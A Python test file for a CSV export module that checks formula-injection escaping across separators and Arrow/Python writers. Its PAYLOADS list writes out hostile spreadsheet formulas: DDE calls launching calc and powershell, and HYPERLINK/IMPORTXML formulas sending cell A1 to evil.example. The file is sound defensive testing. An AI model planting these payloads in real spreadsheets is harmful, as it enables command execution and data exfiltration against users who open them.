"""CSV cells: a hundred strings a spreadsheet would run, in three separators, and text that comes back as it was."""

from __future__ import annotations

import csv
import io
from itertools import product

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyarrow.csv import write_csv

from pipeline.export.cells import Sheet, escape, safe_table, unescape

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+cmd|' /C powershell'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
)  # fmt: skip
# What may stand before a formula and leave it one: nothing, blanks, controls, quotes, a separator of another locale.
PREFIXES = ("", " ", "\t", "\r", "\n", '"', "'", "\u00a0", "harmless;", "a\tb\n")
ATTACKS = ["".join(pair) for pair in product(PREFIXES, PAYLOADS)]
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet would take a cell for a formula: a sign behind blanks, controls or double quotes."""
    return cell.startswith(("\t", "\r", "\n")) or cell.lstrip(' "\u00a0\t\r\n').startswith(tuple(SIGNS))


def cells(text: str, separator: str) -> list[str]:
    """Return a CSV text's cells as a spreadsheet cuts them that goes by a separator."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def by_sheet(values: list[str]) -> str:
    file = io.BytesIO()
    sheet = Sheet(file, ["text"])
    sheet.write([value] for value in values)
    return file.getvalue().decode()


def by_arrow(values: list[str]) -> str:
    file = io.BytesIO()
    write_csv(safe_table(pa.table({"text": pa.array(values, pa.string())})), file)
    return file.getvalue().decode()


def test_there_are_a_hundred_attacks_and_each_would_work() -> None:
    assert len(set(ATTACKS)) == 100
    assert all(runs(attack) or attack.startswith(("'", "harmless;", "a\tb")) for attack in ATTACKS)


@pytest.mark.parametrize("write", [by_sheet, by_arrow])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_attack_has_an_effect(write: object, separator: str) -> None:
    text = write(ATTACKS)  # type: ignore[operator]
    assert [cell for cell in cells(text, separator) if runs(cell)] == []


@pytest.mark.parametrize("write", [by_sheet, by_arrow])
def test_every_attack_comes_back_as_it_was(write: object) -> None:
    read = [row["text"] for row in csv.DictReader(io.StringIO(write(ATTACKS), newline=""))]  # type: ignore[operator]
    assert [unescape(cell) for cell in read] == ATTACKS


DANGEROUS = st.text(alphabet=st.sampled_from("=+-@'\"; |,\t\r\nab\u00a0\uff1d\u200b"), max_size=12)


@given(st.text() | DANGEROUS)
def test_text_comes_back_character_for_character(text: str) -> None:
    assert unescape(escape(text)) == text


@given(st.text() | DANGEROUS)
def test_no_text_runs(text: str) -> None:
    assert not runs(escape(text))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")) | DANGEROUS, max_size=5))
def test_arrow_and_python_write_the_same(values: list[str]) -> None:
    assert safe_table(pa.table({"text": pa.array(values, pa.string())}))["text"].to_pylist() == [escape(value) for value in values]


def test_harmless_text_is_not_touched() -> None:
    for text in ("Gao", "3-5 May", "Côte d'Ivoire", "a = b", "Jama'at Nusrat; Sand Front", "", "it's - and @ - inside"):
        assert escape(text) == text


def test_numbers_stay_numbers() -> None:
    assert by_sheet([-5.25, -3, None, True]).splitlines() == ['"text"', "-5.25", "-3", "", "true"]  # type: ignore[list-item]


def test_lists_are_joined_and_can_be_taken_apart() -> None:
    lists = pa.table(
        {"codes": pa.array([["MLI", "NER"], [], ["a|b", "=c"]], pa.list_(pa.string())), "starts": pa.array([[1, 22], [], [3]])}
    )
    assert safe_table(lists).to_pydict() == {"codes": ["MLI|NER", "", "a\\|b|'=c"], "starts": ["1|22", "", "3"]}
